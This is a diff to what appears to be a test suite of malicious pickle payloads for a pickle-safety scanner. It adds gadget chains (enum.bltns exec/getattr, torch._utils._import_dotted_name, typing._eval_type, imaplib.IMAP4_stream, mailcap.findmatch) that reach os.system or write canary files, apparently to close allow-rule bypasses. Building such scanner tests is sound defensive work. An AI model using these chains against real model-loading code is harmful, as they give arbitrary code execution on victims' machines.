@@ -438,6 +438,71 @@ def torch_import_dotted_name(c: str) -> bytes:
             + TUPLE1 + REDUCE + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)
 
 
+# --- issue 9: names the old prefix rules called data, and gadgets --allow/--trust admitted -------
+@payload("enum.bltns.open(canary, 'w'): enum's `import builtins as bltns` reached by a dotted "
+         "name, protocol 4 (the prefix rule 'enum.' called it data)")
+def enum_bltns_open_p4(c: str) -> bytes:
+    body = (USTR("enum") + USTR("bltns.open") + STACK_GLOBAL + USTR(c) + USTR("w") + TUPLE2
+            + REDUCE + STOP)
+    return framed(4, body)
+
+
+@payload("enum.bltns.exec(source) via GLOBAL with a dotted name, protocol 4")
+def enum_bltns_exec_p4(c: str) -> bytes:
+    return PROTO(4) + GLOBAL("enum", "bltns.exec") + USTR(py_code(c)) + TUPLE1 + REDUCE + STOP
+
+
+@payload("enum.bltns.getattr(enum.bltns.__import__('os'), 'system')(cmd): a chain of "
+         "'data' names reaching a shell, protocol 4")
+def enum_bltns_chain_p4(c: str) -> bytes:
+    return (PROTO(4) + GLOBAL("enum", "bltns.getattr") + GLOBAL("enum", "bltns.__import__")
+            + USTR("os") + TUPLE1 + REDUCE + USTR("system") + TUPLE2 + REDUCE
+            + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)
+
+
+@payload("torch.distributed.checkpoint.metadata.torch._utils._import_dotted_name: torch's "
+         "import gadget through the DCP metadata module (the prefix rule called it data)",
+         setup="import torch.distributed.checkpoint.metadata\n")
+def dcp_metadata_torch_gadget(c: str) -> bytes:
+    return (PROTO(4) + GLOBAL("torch.distributed.checkpoint.metadata",
+                              "torch._utils._import_dotted_name")
+            + USTR("os.system") + TUPLE1 + REDUCE + USTR(shell_cmd(c)) + TUPLE1 + REDUCE + STOP)
+
+
+@payload("typing._eval_type(typing.ForwardRef(src), {}, {}): an eval with no eval global")
+def typing_eval_type(c: str) -> bytes:
+    src = f"__import__('os').system({shell_cmd(c)!r})"
+    return (PROTO(2) + GLOBAL("typing", "_eval_type") + GLOBAL("typing", "ForwardRef")
+            + USTR(src) + TUPLE1 + REDUCE + EMPTY_DICT + EMPTY_DICT + TUPLE3 + REDUCE + STOP)
+
+
+@payload("logging.FileHandler(canary): a stdlib class that creates a file when built")
+def logging_file_handler(c: str) -> bytes:
+    return PROTO(2) + GLOBAL("logging", "FileHandler") + USTR(c) + TUPLE1 + REDUCE + STOP
+
+
+@payload("pathlib.PosixPath.write_text(PosixPath(canary), 'x'): a method of a data class, "
+         "protocol 4")
+def pathlib_write_text(c: str) -> bytes:
+    return (PROTO(4) + GLOBAL("pathlib", "PosixPath.write_text") + GLOBAL("pathlib", "PosixPath")
+            + USTR(c) + TUPLE1 + REDUCE + USTR("x") + TUPLE2 + REDUCE + STOP)
+
+
+@payload("imaplib.IMAP4_stream(cmd): spawns a shell command as its 'server'")
+def imaplib_imap4_stream(c: str) -> bytes:
+    return PROTO(2) + GLOBAL("imaplib", "IMAP4_stream") + USTR(shell_cmd(c)) + TUPLE1 + REDUCE \
+        + STOP
+
+
+@payload("mailcap.findmatch(caps, type): runs each entry's 'test' command with os.system")
+def mailcap_findmatch(c: str) -> bytes:
+    entry = (EMPTY_DICT + USTR("view") + USTR("true") + SETITEM + USTR("test")
+             + USTR(shell_cmd(c)) + SETITEM)
+    caps = EMPTY_DICT + USTR("x/y") + EMPTY_LIST + entry + APPEND + SETITEM
+    return PROTO(2) + GLOBAL("mailcap", "findmatch") + caps + USTR("x/y") + TUPLE2 + REDUCE \
+        + STOP
+
+
 # --- copyreg extension codes ---------------------------------------------------------------------
 _EXT_SETUP = ("import copyreg\n"
               "for _r in (copyreg._extension_registry, copyreg._inverted_registry,\n"
